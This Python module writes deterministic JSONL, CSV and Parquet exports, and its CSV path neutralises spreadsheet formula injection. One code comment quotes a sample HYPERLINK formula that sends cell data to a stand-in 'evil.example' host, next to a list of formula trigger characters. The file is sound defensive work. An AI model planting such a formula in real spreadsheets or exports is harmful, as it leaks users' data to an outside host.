"""Format writers: stream checked rows into JSONL, CSV or Parquet in constant memory.

Each writer streams into a binary sink (a staged file, or standard output) and holds at most
one row (JSONL, CSV) or one Parquet row group in memory, so an export of millions of records
costs the same RAM as one of a thousand. Writers never close the sink: the caller owns it.
Output depends only on the rows: no timestamps, random ids or dict-order accidents, so
re-running an export gives byte-identical files that researchers can checksum and cite.

* JSONL keeps nesting (lists, structs) as JSON; dates and datetimes as ISO strings.
* CSV has one header row; lists and structs are JSON text in their cell, ``None`` is an
  empty cell (records never hold empty strings, so the two cannot be confused), booleans are
  ``true``/``false``. Text cells that a spreadsheet would run as a formula are neutralised
  (``neutralise_formula``); JSONL and Parquet keep every text exactly as archived.
* Parquet uses real types (``date32``, UTC timestamps, lists, list<struct>) and carries each
  column's description in its field metadata.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Callable, Iterable, Iterator, Mapping
from datetime import date, datetime
from typing import Any, BinaryIO

import pyarrow as pa
import pyarrow.parquet as pq

from storage.export.schema import ExportSchema

#: Rows per Parquet row group: large enough for good compression and fast column scans.
DEFAULT_ROW_GROUP_ROWS = 10_000
#: Text characters buffered before a row group is flushed early. Q&A rows range from a few
#: hundred bytes to tens of kilobytes (long explanations, many links), so a row count alone
#: would not bound memory; this does (the buffer is held twice: Python lists, Arrow arrays).
DEFAULT_ROW_GROUP_CHARS = 8_000_000

#: Fixed so the bytes depend on the data only; changing any of these changes every checksum.
PARQUET_OPTIONS: dict[str, Any] = {
    "compression": "zstd",
    "compression_level": 3,
    "version": "2.6",
    "use_dictionary": True,
    "write_statistics": True,
}

Rows = Iterable[Mapping[str, Any]]


def _json_default(value: Any) -> str:
    if isinstance(value, date | datetime):
        return value.isoformat()
    raise TypeError(f"not JSON serialisable: {type(value).__name__}")


# json.dumps escapes control characters but not these, and str.splitlines() and some JSONL
# readers break lines at them; escaping keeps one record per line for every reader.
_LINE_BREAKS = str.maketrans({"\x85": "\\u0085", "\u2028": "\\u2028", "\u2029": "\\u2029"})


def _json(value: Any) -> str:
    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"), default=_json_default)
    return text.translate(_LINE_BREAKS)


@contextlib.contextmanager
def _text(sink: BinaryIO, newline: str) -> Iterator[io.TextIOWrapper]:
    """UTF-8 text over ``sink``, flushed and detached at the end so ``sink`` stays open."""
    handle = io.TextIOWrapper(sink, encoding="utf-8", newline=newline)  # type: ignore[type-var]
    try:
        yield handle
    finally:
        handle.flush()
        handle.detach()


def write_jsonl(rows: Rows, schema: ExportSchema, sink: BinaryIO) -> int:
    """One JSON object per line, keys in schema order."""
    count = 0
    names = schema.names
    with _text(sink, "\n") as handle:
        for count, row in enumerate(rows, start=1):
            values = schema.check_row(row, count - 1)
            handle.write(_json(dict(zip(names, values, strict=True))))
            handle.write("\n")
    return count


#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
#: (OWASP "CSV Injection": = + - @ tab CR), plus their full-width forms, which East Asian
#: spreadsheet locales also accept. Question text is typed by the public, so a title such as
#: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must not run when a CSV is opened.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
#: Prefixed to a neutralised cell; a spreadsheet shows the rest as plain text.
FORMULA_GUARD = "'"
#: What the manifest of a CSV export says about the guard, so a reader can undo it.
CSV_FORMULA_GUARD_NOTE = (
    "text cells starting with = + - @ TAB CR (or their full-width forms) or with ' are "
    "prefixed with one ' so spreadsheets do not run them as formulas; to get the archived "
    "text back, drop the first character of every text cell that starts with '"
)


def neutralise_formula(text: str) -> str:
    """``text`` with a ``'`` in front when a spreadsheet would treat it as a formula.

    Text that already starts with ``'`` is prefixed too, so the rule is reversible without
    ambiguity: drop one leading ``'`` from any text cell that has one.
    """
    if text and (text[0] in FORMULA_TRIGGERS or text[0] == FORMULA_GUARD):
        return FORMULA_GUARD + text
    return text


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise_formula(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | dict):
        return _json(value)
    if isinstance(value, date | datetime):
        return value.isoformat()
    if isinstance(value, float):
        return repr(value)
    return str(value)


def write_csv(rows: Rows, schema: ExportSchema, sink: BinaryIO) -> int:
    """RFC 4180: CRLF line ends, multi-line text inside quoted cells.

    CRLF, not ``\\n``: the csv module quotes a field only for the characters of its line
    terminator, so with ``\\n`` a text holding a bare CR went out unquoted and split its row.

    Only text values are guarded against formula injection: numbers, dates and booleans are
    written by us, and JSON cells start with ``[`` or ``{``.
    """
    count = 0
    with _text(sink, "") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(schema.names)
        for count, row in enumerate(rows, start=1):
            writer.writerow([_csv_cell(v) for v in schema.check_row(row, count - 1)])
    return count


def write_parquet(
    rows: Rows,
    schema: ExportSchema,
    sink: BinaryIO,
    *,
    row_group_rows: int = DEFAULT_ROW_GROUP_ROWS,
    row_group_chars: int = DEFAULT_ROW_GROUP_CHARS,
) -> int:
    """Buffer rows column-wise and flush a row group at ``row_group_rows`` rows or
    ``row_group_chars`` characters of text, whichever comes first.

    Group boundaries depend only on the rows, so the output stays deterministic.
    """
    if row_group_rows < 1 or row_group_chars < 1:
        raise ValueError("row_group_rows and row_group_chars must be at least 1")
    arrow_schema = schema.arrow()
    columns: list[list[Any]] = [[] for _ in schema.columns]
    buffered_rows = buffered_chars = count = 0
    with pq.ParquetWriter(sink, arrow_schema, **PARQUET_OPTIONS) as writer:

        def flush() -> None:
            arrays = [
                pa.array(values, type=field.type)
                for values, field in zip(columns, arrow_schema, strict=True)
            ]
            writer.write_table(pa.Table.from_arrays(arrays, schema=arrow_schema))
            for values in columns:
                values.clear()

        for count, row in enumerate(rows, start=1):
            checked = schema.check_row(row, count - 1)
            for values, value in zip(columns, checked, strict=True):
                values.append(value)
            buffered_rows += 1
            buffered_chars += _text_chars(checked)
            if buffered_rows >= row_group_rows or buffered_chars >= row_group_chars:
                flush()
                buffered_rows = buffered_chars = 0
        if buffered_rows:
            flush()
    return count


def _text_chars(value: Any) -> int:
    """Characters of text in a checked value, nested lists and structs included."""
    if isinstance(value, str):
        return len(value)
    if isinstance(value, list):
        return sum(_text_chars(v) for v in value)
    if isinstance(value, dict):
        return sum(_text_chars(v) for v in value.values())
    return 0


WRITERS: dict[str, Callable[[Rows, ExportSchema, BinaryIO], int]] = {
    "jsonl": write_jsonl,
    "csv": write_csv,
    "parquet": write_parquet,
}

#: The formats ``write_export`` accepts, for CLI choices and error messages.
FORMATS: tuple[str, ...] = tuple(WRITERS)
